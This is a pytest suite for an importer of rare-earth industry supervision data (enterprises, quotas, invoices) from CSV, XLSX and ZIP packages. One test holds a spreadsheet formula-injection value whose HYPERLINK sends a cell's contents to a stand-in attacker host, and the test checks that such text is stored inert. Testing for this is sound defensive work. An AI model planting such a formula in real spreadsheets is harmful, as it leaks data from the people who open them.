"""Whole packages: encodings, workbooks, archives, unreadable files, all-or-nothing, idempotence, audit,
exact sums, coordinates and warnings, on SQLite and PostgreSQL."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from import_kit import (
    E1,
    E2,
    SAMPLES,
    assert_problem,
    code,
    csv_bytes,
    csv_package,
    enterprise,
    grid,
    read_rows,
    run,
    sample,
    snapshot,
    upload,
    xlsx_package,
    zip_package,
)
from sqlalchemy import Engine, func, select
from sqlalchemy.exc import IntegrityError

from supervision.core.config import Settings
from supervision.geo.coords import gcj02_to_bd09
from supervision.ingest.package import Upload
from supervision.storage.models import AuditEntry, Enterprise, ImportBatch, Invoice, MonthlyReport, Quota

GB18030_ONLY = "𠀀"  # outside GBK: only GB18030 (four bytes) encodes it


def _names(engine: Engine) -> dict[str, str | None]:
    return {r["uscc"]: r["name"] for r in read_rows(engine, "enterprises")}


# --- encodings -----------------------------------------------------------------------------------

@pytest.mark.parametrize("encoding", ["gb18030", "gbk", "utf-8-sig", "utf-8"])
@pytest.mark.parametrize("chinese", [True, False], ids=["chinese", "english"])
def test_csv_encodings_are_detected(db: Engine, settings: Settings, tmp_path: Path, encoding: str,
                                    chinese: bool) -> None:
    name = "太仓市镕鑫稀土材料有限公司" + (GB18030_ONLY if encoding != "gbk" else "")
    tables = {"enterprises": [sample("enterprises", name=name, township="港区")],
              "invoices": [sample("invoices", product_name="氧化镨钕（镨钕比25:75）")]}

    report = run(db, settings, csv_package(tmp_path / "pkg", tables, chinese=chinese, encoding=encoding))

    assert report.written, report.summary()
    assert _names(db) == {E1: name}
    assert read_rows(db, "enterprises")[0]["township"] == "浮桥镇"
    assert read_rows(db, "invoices")[0]["product_name"] == "氧化镨钕（镨钕比25:75）"


def test_bom_before_english_header_is_not_part_of_the_name(db: Engine, settings: Settings, tmp_path: Path) -> None:
    data = csv_bytes(grid("enterprises", [SAMPLES["enterprises"]]), "utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbfuscc,")

    report = run(db, settings, Upload("enterprises.csv", data))

    assert report.written, report.summary()


def test_undecodable_csv_is_reported(db: Engine, settings: Settings, tmp_path: Path) -> None:
    package = csv_package(tmp_path / "pkg", {}, extra_files={"invoices.csv": b"invoice_no\r\n\xff\xfe\x80\x80\r\n"})

    report = run(db, settings, package)

    assert_problem(report, table="invoices", row=None, column=None, reason="无法识别文件编码")


def test_binary_file_named_csv_is_reported(db: Engine, settings: Settings, tmp_path: Path) -> None:
    package = csv_package(tmp_path / "pkg", {}, extra_files={"invoices.csv": b"PK\x03\x04\x00\x00binary"})

    report = run(db, settings, package)

    assert_problem(report, table="invoices", row=None, column=None, reason="不是文本表格文件")


# --- package shapes ------------------------------------------------------------------------------

def _full_package() -> dict[str, list[dict[str, str]]]:
    return {"enterprises": [SAMPLES["enterprises"], enterprise(2, township="高新区", category="贸易流通")],
            "quotas": [SAMPLES["quotas"]],
            "invoices": [SAMPLES["invoices"], sample("invoices", invoice_no="INV-2", seller_uscc=E2, buyer_uscc=E1)]}


def _assert_full_package_written(engine: Engine) -> None:
    assert {r["uscc"]: r["township"] for r in read_rows(engine, "enterprises")} == {E1: "城厢镇", E2: "娄东街道"}
    assert read_rows(engine, "quotas") == [SAMPLES["quotas"]]
    assert sorted(r["invoice_no"] for r in read_rows(engine, "invoices")) == ["3200191130-00012345", "INV-2"]


@pytest.mark.parametrize("chinese", [True, False], ids=["chinese", "english"])
def test_zip_package(db: Engine, settings: Settings, tmp_path: Path, chinese: bool) -> None:
    path = zip_package(tmp_path / "报送数据.zip", _full_package(), chinese=chinese, folder="2019年7月/")

    report = run(db, settings, path)

    assert report.written, report.summary()
    assert report.source == "报送数据.zip"
    _assert_full_package_written(db)


def test_zip_with_gbk_file_names_from_windows(db: Engine, settings: Settings, tmp_path: Path) -> None:
    # Windows' "send to compressed folder" writes names in GBK without the UTF-8 flag.
    buffer = io.BytesIO()
    placeholders: dict[bytes, bytes] = {}
    with zipfile.ZipFile(buffer, "w") as archive:
        for n, (table, rows) in enumerate(_full_package().items()):
            gbk = f"{ {'enterprises': '企业名录', 'quotas': '总量控制指标', 'invoices': '稀土专用发票'}[table]}.csv"
            raw = gbk.encode("gbk")
            placeholder = (f"{n}".encode() * len(raw))[: len(raw) - 4] + b".csv"
            placeholders[placeholder] = raw
            archive.writestr(placeholder.decode(), csv_bytes(grid(table, rows, chinese=True), "gbk"))
    data = buffer.getvalue()
    for placeholder, raw in placeholders.items():
        data = data.replace(placeholder, raw)
    assert not any(i.flag_bits & 0x800 for i in zipfile.ZipFile(io.BytesIO(data)).infolist())

    report = run(db, settings, Upload("镇区报送.zip", data))

    assert report.written, report.summary()
    _assert_full_package_written(db)


@pytest.mark.parametrize("chinese", [True, False], ids=["chinese", "english"])
def test_xlsx_package_with_instructions_and_hidden_lists(db: Engine, settings: Settings, tmp_path: Path,
                                                         chinese: bool) -> None:
    path = xlsx_package(tmp_path / "报送.xlsx", _full_package(), chinese=chinese, instructions=True,
                        hidden_lists=True)

    report = run(db, settings, path)

    assert report.written, report.summary()
    assert sorted(report.tables) == ["enterprises", "invoices", "quotas"]
    _assert_full_package_written(db)


def test_xlsx_native_cells(db: Engine, settings: Settings, tmp_path: Path) -> None:
    # What Excel stores: dates as date cells, a typed 2019-07 as the date 2019-07-01, numbers as doubles.
    monthly = sample("monthly_reports")
    header = list(monthly)
    row: list[object] = list(monthly.values())
    row[header.index("period")] = dt.datetime(2019, 7, 1)
    row[header.index("submitted_on")] = dt.datetime(2019, 8, 9)
    row[header.index("production_t")] = 100.123
    row[header.index("purchase_scrap_t")] = 0.001
    row[header.index("sales_t")] = 90
    ent = sample("enterprises")
    ent_row: list[object] = list(ent.values())
    ent_row[list(ent).index("last_clean_audit")] = dt.date(2018, 5, 1)
    ent_row[list(ent).index("eia_approved")] = True
    ent_row[list(ent).index("eia_accepted")] = False
    ent_row[list(ent).index("lon")] = 121.10776
    ent_row[list(ent).index("lat")] = 31.45814
    path = xlsx_package(tmp_path / "native.xlsx", {"enterprises": [list(ent), ent_row],
                                                   "monthly_reports": [header, row]})

    report = run(db, settings, path)

    assert report.written, report.summary()
    assert read_rows(db, "monthly_reports") == [SAMPLES["monthly_reports"]]
    assert read_rows(db, "enterprises") == [SAMPLES["enterprises"]]


def test_xlsx_unknown_sheet_is_an_error(db: Engine, settings: Settings, tmp_path: Path) -> None:
    path = xlsx_package(tmp_path / "a.xlsx", {"enterprises": [SAMPLES["enterprises"]],
                                              "Sheet1": [["随手记"], ["不是数据表"]]})

    report = run(db, settings, path)

    assert_problem(report, table=None, row=None, column=None, reason="“Sheet1”不是规定的表名")
    assert snapshot(db)["enterprises"] == 0


@pytest.mark.parametrize("kind", ["csv", "zip", "xlsx"])
def test_upload_of_bytes(db: Engine, settings: Settings, tmp_path: Path, kind: str) -> None:
    if kind == "csv":
        source = Upload("企业名录.csv", csv_bytes(grid("enterprises", [SAMPLES["enterprises"]], chinese=True)))
    elif kind == "zip":
        source = upload(zip_package(tmp_path / "p.zip", {"enterprises": [SAMPLES["enterprises"]]}))
    else:
        source = upload(xlsx_package(tmp_path / "p.xlsx", {"enterprises": [SAMPLES["enterprises"]]}))

    report = run(db, settings, source)

    assert report.written, report.summary()
    assert _names(db) == {E1: SAMPLES["enterprises"]["name"]}


# --- unreadable files ----------------------------------------------------------------------------

def test_non_table_file_in_folder(db: Engine, settings: Settings, tmp_path: Path) -> None:
    package = csv_package(tmp_path / "pkg", {"enterprises": [SAMPLES["enterprises"]]},
                          extra_files={"说明.docx": b"PK\x03\x04 not a table"})

    report = run(db, settings, package)

    problem = assert_problem(report, table=None, row=None, column=None, reason="不是CSV表格文件")
    assert problem.file == "说明.docx"
    assert snapshot(db)["enterprises"] == 0


def test_unknown_csv_name(db: Engine, settings: Settings, tmp_path: Path) -> None:
    package = csv_package(tmp_path / "pkg", {"enterprises": [SAMPLES["enterprises"]]},
                          extra_files={"发票.csv": csv_bytes([["invoice_no"], ["1"]])})

    report = run(db, settings, package)

    assert_problem(report, table=None, row=None, column=None, reason="“发票”不是规定的表名")


@pytest.mark.parametrize(("name", "data", "reason"), [
    ("random.xlsx", b"\x00\x01garbage" * 100, "无法打开工作簿"),
    ("renamed.xlsx", csv_bytes([["uscc"], [E1]]), "无法打开工作簿"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "不支持旧版.xls格式"),
    ("broken.zip", b"PK\x03\x04 truncated", "无法打开压缩包"),
    ("report.pdf", b"%PDF-1.4", "不支持的文件类型"),
])
def test_corrupt_or_foreign_file(db: Engine, settings: Settings, tmp_path: Path, name: str, data: bytes,
                                 reason: str) -> None:
    run(db, settings, csv_package(tmp_path / "seed", {"enterprises": [SAMPLES["enterprises"]]}))
    before = snapshot(db)
    path = tmp_path / name
    path.write_bytes(data)

    report = run(db, settings, path)

    problem = assert_problem(report, table=None, row=None, column=None, reason=reason)
    assert problem.file == name
    assert snapshot(db) == before


def test_truncated_workbook(db: Engine, settings: Settings, tmp_path: Path) -> None:
    whole = xlsx_package(tmp_path / "whole.xlsx", {"enterprises": [SAMPLES["enterprises"]]}).read_bytes()

    report = run(db, settings, Upload("cut.xlsx", whole[: len(whole) // 2]))

    assert_problem(report, table=None, row=None, column=None, reason="无法打开工作簿")


def _damage_member(data: bytes, prefix: str) -> bytes:
    """The same archive with the members starting with `prefix` cut in half (their XML or CSV broken)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            target.writestr(info, content[: len(content) // 2] if info.filename.startswith(prefix) else content)
    return out.getvalue()


def test_workbook_with_damaged_sheet(db: Engine, settings: Settings, tmp_path: Path) -> None:
    whole = xlsx_package(tmp_path / "w.xlsx", {"enterprises": [SAMPLES["enterprises"]]}).read_bytes()

    report = run(db, settings, Upload("w.xlsx", _damage_member(whole, "xl/worksheets/")))

    problem = assert_problem(report, table="enterprises", row=None, column=None, reason="工作表已损坏")
    assert problem.file == "w.xlsx［enterprises］"
    assert snapshot(db)["enterprises"] == 0


def test_zip_with_damaged_member(db: Engine, settings: Settings, tmp_path: Path) -> None:
    data = bytearray(zip_package(tmp_path / "p.zip", {"enterprises": [SAMPLES["enterprises"]]}).read_bytes())
    start = data.index(b"enterprises.csv") + len("enterprises.csv")
    data[start + 4] ^= 0xFF  # inside the deflated data of the only member

    report = run(db, settings, Upload("p.zip", bytes(data)))

    assert_problem(report, table="enterprises", row=None, column=None, reason="文件已损坏")


def test_same_table_twice_in_a_package(db: Engine, settings: Settings, tmp_path: Path) -> None:
    second = csv_bytes(grid("invoices", [sample("invoices", invoice_no="X")], chinese=True))
    package = csv_package(tmp_path / "pkg", {"invoices": [SAMPLES["invoices"]]},
                          extra_files={"稀土专用发票.csv": second})

    report = run(db, settings, package)

    assert_problem(report, table="invoices", row=None, column=None, reason="是同一张表")
    assert snapshot(db)["invoices"] == 0


def test_cells_beyond_the_header_are_an_error(db: Engine, settings: Settings, tmp_path: Path) -> None:
    rows = grid("invoices", [SAMPLES["invoices"], sample("invoices", invoice_no="X")])
    rows[2].append("多出的一格")

    report = run(db, settings, csv_package(tmp_path / "pkg", {"invoices": rows}))

    problem = assert_problem(report, table="invoices", row=3, column=None, reason="第12列有数据但没有表头")
    assert problem.value == "多出的一格"


def test_row_numbers_count_records_as_a_spreadsheet_shows_them(db: Engine, settings: Settings,
                                                               tmp_path: Path) -> None:
    # A quoted cell spanning two lines is still one row; blank lines are rows too.
    rows = grid("enterprises", [enterprise(2, address="城厢镇\n示例路1号"), enterprise(3), enterprise(4),
                                enterprise(5, category="冶炼")])
    rows.insert(3, [])

    report = run(db, settings, csv_package(tmp_path / "pkg", {"enterprises": rows}))

    assert_problem(report, table="enterprises", row=6, column="category", reason="不是允许的取值")
    assert len(report.problems) == 1


# --- semantics ---------------------------------------------------------------------------------

def test_one_bad_row_anywhere_writes_nothing_and_every_bad_row_is_listed(db: Engine, settings: Settings,
                                                                        tmp_path: Path) -> None:
    run(db, settings, csv_package(tmp_path / "seed", {"enterprises": [SAMPLES["enterprises"]]}))
    before = snapshot(db)
    tables = {
        "enterprises": [SAMPLES["enterprises"] | {"name": "改名"}, enterprise(2)],
        "quotas": [SAMPLES["quotas"]],
        "invoices": [SAMPLES["invoices"], sample("invoices", invoice_no="B", reo_t="1.0001"),
                     sample("invoices", invoice_no="C", issued_on="2019-02-30", unit="斤")],
    }

    report = run(db, settings, csv_package(tmp_path / "pkg", tables))

    assert [(p.table, p.row, p.column) for p in report.problems] == [
        ("invoices", 3, "reo_t"), ("invoices", 4, "issued_on"), ("invoices", 4, "unit")]
    assert report.summary().startswith("数据包“pkg”被拒绝：发现3处错误，数据库未作任何修改。")
    assert snapshot(db) == before
    assert _names(db) == {E1: SAMPLES["enterprises"]["name"]}


def test_importing_the_same_package_twice_changes_nothing(db: Engine, settings: Settings, tmp_path: Path) -> None:
    package = csv_package(tmp_path / "pkg", _full_package())
    first = run(db, settings, package)
    assert first.written and first.added == 5
    after_first = snapshot(db)
    rows_first = {t: read_rows(db, t) for t in ("enterprises", "quotas", "invoices")}

    second = run(db, settings, package)

    assert second.ok and not second.written
    assert (second.added, second.changed) == (0, 0)
    assert {k: t.unchanged for k, t in second.tables.items()} == {"enterprises": 2, "quotas": 1, "invoices": 2}
    assert "无变化" in second.summary()
    assert snapshot(db) == after_first
    assert {t: read_rows(db, t) for t in rows_first} == rows_first


def test_replacing_a_row_writes_an_audit_record(db: Engine, settings: Settings, tmp_path: Path) -> None:
    first = run(db, settings, csv_package(tmp_path / "one", _full_package()), actor="工信局 王科长")
    changed = _full_package()
    changed["quotas"] = [SAMPLES["quotas"] | {"quota_t": "1300"}]
    changed["enterprises"][0] = SAMPLES["enterprises"] | {"status": "停产", "eia_accepted": "是"}

    second = run(db, settings, csv_package(tmp_path / "two", changed), actor="工信局 李科员")

    assert second.written and (second.added, second.changed) == (0, 2)
    with db.connect() as conn:
        audits = conn.execute(select(AuditEntry.__table__).where(AuditEntry.action == "replace")
                              .order_by(AuditEntry.table_name)).all()
        imports = conn.execute(select(AuditEntry.actor, AuditEntry.import_id)
                               .where(AuditEntry.action == "import").order_by(AuditEntry.id)).all()
        quota_version = conn.execute(select(Quota.version, Quota.import_id)).one()
        batches = conn.execute(select(ImportBatch.id, ImportBatch.actor).order_by(ImportBatch.id)).all()
    assert [(a.table_name, a.record_key, a.action, a.actor, a.old_values, a.new_values) for a in audits] == [
        ("enterprises", E1, "replace", "工信局 李科员", {"status": "在产", "eia_accepted": False},
         {"status": "停产", "eia_accepted": True}),
        ("quotas", f"2019|1|{E1}|冶炼分离", "replace", "工信局 李科员", {"quota_t": "1200.125"},
         {"quota_t": "1300"}),
    ]
    assert [b.actor for b in batches] == ["工信局 王科长", "工信局 李科员"]
    assert [tuple(i) for i in imports] == [(b.actor, b.id) for b in batches]  # each import is an event too
    assert {a.import_id for a in audits} == {second.import_id} == {batches[1].id}
    assert first.import_id == batches[0].id
    assert tuple(quota_version) == (2, second.import_id)
    assert second.tables["quotas"].changes[0].old == {"quota_t": "1200.125"}
    assert snapshot(db)["data_version"] == 2


def test_a_column_missing_from_the_file_keeps_its_stored_value(db: Engine, settings: Settings,
                                                               tmp_path: Path) -> None:
    """税务局 resending the directory without coordinates must not blank what 工信局 sent."""
    run(db, settings, csv_package(tmp_path / "one", {"enterprises": [SAMPLES["enterprises"]]}))
    before = read_rows(db, "enterprises")[0]
    renamed = {"enterprises": [{"uscc": E1, "name": "改名后的示例企业", "category": "冶炼分离", "township": "城厢"}]}

    report = run(db, settings, csv_package(tmp_path / "two", renamed))

    assert report.written and report.tables["enterprises"].changes[0].new == {"name": "改名后的示例企业"}
    after = read_rows(db, "enterprises")[0]
    assert after["name"] == "改名后的示例企业"
    assert {k: v for k, v in after.items() if k not in ("name", "version", "import_id")} == {
        k: v for k, v in before.items() if k not in ("name", "version", "import_id")}
    assert before["lon"] is not None and before["address"] is not None


def test_an_empty_cell_in_a_present_column_clears_the_value(db: Engine, settings: Settings, tmp_path: Path) -> None:
    run(db, settings, csv_package(tmp_path / "one", {"enterprises": [SAMPLES["enterprises"]]}))
    cleared = {"enterprises": [SAMPLES["enterprises"] | {"address": ""}]}

    report = run(db, settings, csv_package(tmp_path / "two", cleared))

    assert report.tables["enterprises"].changed == 1
    assert read_rows(db, "enterprises")[0]["address"] is None


def test_dry_run_reports_but_writes_nothing(db: Engine, settings: Settings, tmp_path: Path) -> None:
    before = snapshot(db)

    report = run(db, settings, csv_package(tmp_path / "pkg", _full_package()), dry_run=True)

    assert report.ok and not report.written and report.import_id is None
    assert report.added == 5
    assert "预览" in report.summary()
    assert snapshot(db) == before


def test_progress_is_reported_per_table(db: Engine, settings: Settings, tmp_path: Path) -> None:
    seen: list[tuple[str, int]] = []

    run(db, settings, csv_package(tmp_path / "pkg", _full_package()), progress=lambda t, n: seen.append((t, n)))

    assert seen == [("enterprises", 2), ("quotas", 1), ("invoices", 2)]


def _float_running_sum(figures: list[str]) -> float:
    total = 0.0
    for figure in figures:
        total += float(figure)
    return total


def test_twelve_monthly_figures_sum_exactly_to_the_quota(db: Engine, settings: Settings, tmp_path: Path) -> None:
    # Added one after another in binary floating point (as a REAL column's SUM does), these twelve
    # figures miss the quota, and 0.1 t and 0.2 t six times each exceed 1.8 t.
    figures = ["83.417", "83.417", "83.417", "83.417", "83.417", "83.417",
               "83.416", "83.416", "83.416", "83.416", "83.416", "83.416"]
    quota = "1000.998"
    assert _float_running_sum(figures) != float(quota)
    assert sum(Decimal(f) for f in figures) == Decimal(quota)
    small = ["0.1", "0.2"] * 6
    assert _float_running_sum(small) > 1.8
    tables = {
        "enterprises": [SAMPLES["enterprises"], enterprise(2)],
        "quotas": [sample("quotas", quota_t=quota), sample("quotas", uscc=E2, quota_t="1.8")],
        "monthly_reports": [sample("monthly_reports", period=f"2019-{m:02d}", production_t=f)
                            for m, f in enumerate(figures, start=1)]
        + [sample("monthly_reports", uscc=E2, period=f"2019-{m:02d}", production_t=f)
           for m, f in enumerate(small, start=1)],
    }
    assert run(db, settings, csv_package(tmp_path / "pkg", tables)).written

    produced = (select(MonthlyReport.uscc, func.sum(MonthlyReport.production_t).label("produced"))
                .where(MonthlyReport.period.between("2019-01", "2019-12")).group_by(MonthlyReport.uscc).subquery())
    planned = select(Quota.uscc, func.sum(Quota.quota_t).label("planned")).where(Quota.year == 2019) \
        .group_by(Quota.uscc).subquery()
    with db.connect() as conn:
        sums = dict(conn.execute(select(produced.c.uscc, produced.c.produced)).all())
        over = conn.execute(select(produced.c.uscc).join(planned, planned.c.uscc == produced.c.uscc)
                            .where(produced.c.produced > planned.c.planned)).scalars().all()
        equal = conn.execute(select(func.count()).select_from(produced).join(planned, planned.c.uscc == produced.c.uscc)
                             .where(produced.c.produced == planned.c.planned)).scalar_one()
    assert sums == {E1: Decimal("1000.998"), E2: Decimal("1.800")}
    assert over == []
    assert equal == 2


def test_formula_like_text_is_stored_as_text(db: Engine, settings: Settings, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
    tables = {"enterprises": [sample("enterprises", name=formula, address="=1+2", group="@SUM(A1)")]}

    for n, path in enumerate([csv_package(tmp_path / "pkg", tables),
                              xlsx_package(tmp_path / "p.xlsx", tables)]):
        report = run(db, settings, path)
        assert report.ok, report.summary()
        row = read_rows(db, "enterprises")[0]
        assert (row["name"], row["address"], row["group"]) == (formula, "=1+2", "@SUM(A1)"), n


def test_formula_in_a_number_cell_is_not_evaluated(db: Engine, settings: Settings, tmp_path: Path) -> None:
    path = xlsx_package(tmp_path / "p.xlsx", {"quotas": [sample("quotas", quota_t="=600+600")],
                                              "enterprises": [SAMPLES["enterprises"]]})

    report = run(db, settings, path)

    assert_problem(report, table="quotas", row=2, column="quota_t", reason="不是有效的数字", value="=600+600")


# --- coordinates ------------------------------------------------------------------------------

# 城厢镇's seat in GCJ-02 and its WGS-84 equivalent, from /work/shared/reference/taicang_divisions_2019.csv.
SEAT_GCJ02 = (121.1124, 31.456376)
SEAT_WGS84 = (Decimal("121.10776"), Decimal("31.45814"))


@pytest.mark.parametrize("system", ["WGS84", "GCJ02", "BD09", "gcj-02", "BD-09"])
def test_coordinates_are_stored_in_wgs84(db: Engine, settings: Settings, tmp_path: Path, system: str) -> None:
    if system == "WGS84":
        lon, lat = SEAT_WGS84
    elif system.upper().startswith("GCJ"):
        lon, lat = (Decimal(str(x)) for x in SEAT_GCJ02)
    else:
        lon, lat = (Decimal(f"{x:.6f}") for x in gcj02_to_bd09(*SEAT_GCJ02))
    row = sample("enterprises", lon=str(lon), lat=str(lat), coord_system=system)

    report = run(db, settings, csv_package(tmp_path / "pkg", {"enterprises": [row]}))

    assert report.written and report.warnings == [], report.summary()
    with db.connect() as conn:
        stored = conn.execute(select(Enterprise.lon, Enterprise.lat)).one()
    assert abs(stored.lon - SEAT_WGS84[0]) <= Decimal("0.00001")
    assert abs(stored.lat - SEAT_WGS84[1]) <= Decimal("0.00001")


def test_reimporting_converted_coordinates_changes_nothing(db: Engine, settings: Settings, tmp_path: Path) -> None:
    row = sample("enterprises", lon=str(SEAT_GCJ02[0]), lat=str(SEAT_GCJ02[1]), coord_system="GCJ02")
    package = csv_package(tmp_path / "pkg", {"enterprises": [row]})
    assert run(db, settings, package).written
    before = snapshot(db)

    again = run(db, settings, package)

    assert again.ok and again.tables["enterprises"].unchanged == 1
    assert snapshot(db) == before


def test_point_outside_its_township_is_a_warning(db: Engine, settings: Settings, tmp_path: Path) -> None:
    # A point near 浮桥镇's seat declared as 城厢镇: written, with a warning naming the row.
    rows = [SAMPLES["enterprises"], enterprise(2, township="城厢镇", lon="121.20298", lat="31.6241")]

    report = run(db, settings, csv_package(tmp_path / "pkg", {"enterprises": rows}))

    assert report.ok and report.written, report.summary()
    assert [(w.table, w.row, w.column, w.value) for w in report.warnings] == [("enterprises", 3, "lon", "121.20298")]
    assert "不在所属镇区“城厢镇”范围内" in report.warnings[0].reason
    assert "浮桥镇" in report.warnings[0].reason
    assert "数据质量提示1条" in report.summary()
    assert snapshot(db)["enterprises"] == 2


@pytest.mark.parametrize(("lon", "lat", "system"), [
    ("121.5", "31.5", "WGS84"),  # in the Yangtze, east of the box
    ("120.8", "31.5", "WGS84"),  # Kunshan
    ("121.1", "31.9", "WGS84"),  # north of the box
    ("121.1", "31.2", "GCJ02"),  # Shanghai
    ("116.397", "39.909", "BD09"),  # Beijing
    ("-121.1", "31.5", "WGS84"),  # sign lost
    ("121.1", "-31.5", "WGS84"),
    ("0", "0", "GCJ02"),
])
def test_coordinates_outside_the_jurisdiction_are_rejected(db: Engine, settings: Settings, tmp_path: Path,
                                                           lon: str, lat: str, system: str) -> None:
    row = sample("enterprises", lon=lon, lat=lat, coord_system=system)

    report = run(db, settings, csv_package(tmp_path / "pkg", {"enterprises": [row]}))

    assert_problem(report, table="enterprises", row=2, column="lon", reason="不在太仓市范围内", value=lon)
    assert snapshot(db)["enterprises"] == 0


# --- references ---------------------------------------------------------------------------------

def test_reference_to_enterprise_already_in_database(db: Engine, settings: Settings, tmp_path: Path) -> None:
    run(db, settings, csv_package(tmp_path / "seed", {"enterprises": [SAMPLES["enterprises"]]}))

    report = run(db, settings, csv_package(tmp_path / "pkg", {"quotas": [SAMPLES["quotas"]],
                                                              "penalties": [SAMPLES["penalties"]]}))

    assert report.written, report.summary()


def test_reference_to_enterprise_nowhere(db: Engine, settings: Settings, tmp_path: Path) -> None:
    report = run(db, settings, csv_package(tmp_path / "pkg", {
        "enterprises": [enterprise(2)], "quotas": [sample("quotas", uscc=code(2)), SAMPLES["quotas"]]}))

    assert_problem(report, table="quotas", row=3, column="uscc", reason="企业名录中没有该统一社会信用代码", value=E1)
    assert snapshot(db)["enterprises"] == 0


def test_township_aliases_are_stored_as_full_names(db: Engine, settings: Settings, tmp_path: Path) -> None:
    rows = [enterprise(n, township=t) for n, t in enumerate(["港区", "高新区", "城厢", "太仓港区", "陆渡街道"], 1)]

    report = run(db, settings, csv_package(tmp_path / "pkg", {
        "enterprises": rows, "township_reports": [sample("township_reports", township="港区")]}))

    assert report.written, report.summary()
    assert [r["township"] for r in sorted(read_rows(db, "enterprises"), key=lambda r: r["uscc"] or "")] == [
        "浮桥镇", "娄东街道", "城厢镇", "浮桥镇", "陆渡街道"]
    assert read_rows(db, "township_reports")[0]["township"] == "浮桥镇"


def test_void_and_credit_invoices_are_kept_with_their_status(db: Engine, settings: Settings, tmp_path: Path) -> None:
    rows = [sample("invoices", invoice_no="N"), sample("invoices", invoice_no="V", status="作废"),
            sample("invoices", invoice_no="R", status="红冲", quantity="-1500", reo_t="-1.5",
                   amount_yuan="-450000.25")]
    assert run(db, settings, csv_package(tmp_path / "pkg", {"invoices": rows})).written

    with db.connect() as conn:
        total = conn.execute(select(func.sum(Invoice.reo_t)).where(Invoice.status != "作废")).scalar_one()
    assert total == Decimal("0.000")


def test_header_below_blank_rows_is_reported_where_it_is(db: Engine, settings: Settings, tmp_path: Path) -> None:
    rows = grid("invoices", [SAMPLES["invoices"]])
    rows[0].append("备注")
    rows[1].append("")

    report = run(db, settings, csv_package(tmp_path / "pkg", {"invoices": [[], [], *rows]}))

    assert_problem(report, table="invoices", row=3, column="备注", reason="未知列")


def test_product_category_by_chinese_name_or_lower_case_code(db: Engine, settings: Settings, tmp_path: Path) -> None:
    rows = [sample("invoices", invoice_no="A", product_category="氧化物"),
            sample("invoices", invoice_no="B", product_category="metal")]

    report = run(db, settings, csv_package(tmp_path / "pkg", {"invoices": rows}))

    assert report.written, report.summary()
    assert sorted(r["product_category"] for r in read_rows(db, "invoices")) == ["METAL", "OXIDE"]


def test_a_database_error_while_writing_rolls_back_and_is_an_sqlalchemy_error(
        db: Engine, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Should a check ever miss something the database refuses (here: a quota for an enterprise the
    # checks were made to believe in), the write fails as SQLAlchemy's IntegrityError (which the
    # command line reports) on both paths, INSERT on SQLite and COPY on PostgreSQL, and nothing is kept.
    from supervision.ingest import importer

    real = importer._load_context

    def believing(conn: Any, s: Settings) -> Any:
        ctx = real(conn, s)
        ctx.enterprises.add(code(555))
        return ctx

    monkeypatch.setattr(importer, "_load_context", believing)
    before = snapshot(db)
    package = csv_package(tmp_path / "pkg", {"enterprises": [SAMPLES["enterprises"]],
                                             "quotas": [sample("quotas", uscc=code(555))]})

    with pytest.raises(IntegrityError):
        run(db, settings, package)

    assert snapshot(db) == before


def test_every_date_style_and_boolean_form_through_an_import(db: Engine, settings: Settings, tmp_path: Path) -> None:
    dates = ["2018-05-01", "2018/05/01", "2018/5/1", "2018年5月1日", "2018-5-1", "2018-05-01 00:00:00"]
    booleans = [("是", "否"), ("Y", "N"), ("true", "false"), ("1", "0"), ("y", "n"), ("TRUE", "FALSE")]
    rows = [enterprise(n, last_clean_audit=d, eia_approved=yes, eia_accepted=no)
            for n, (d, (yes, no)) in enumerate(zip(dates, booleans, strict=True), start=1)]

    report = run(db, settings, csv_package(tmp_path / "pkg", {"enterprises": rows}))

    assert report.written, report.summary()
    stored = {(r["last_clean_audit"], r["eia_approved"], r["eia_accepted"]) for r in read_rows(db, "enterprises")}
    assert stored == {("2018-05-01", "是", "否")}


def test_half_width_brackets_in_a_sheet_name(db: Engine, settings: Settings, tmp_path: Path) -> None:
    path = xlsx_package(tmp_path / "镇区.xlsx", {"township_reports": [SAMPLES["township_reports"]]})
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    workbook["township_reports"].title = "镇(区)自查情况汇总表"
    workbook.save(path)

    report = run(db, settings, path)

    assert report.written, report.summary()
    assert read_rows(db, "township_reports") == [SAMPLES["township_reports"]]
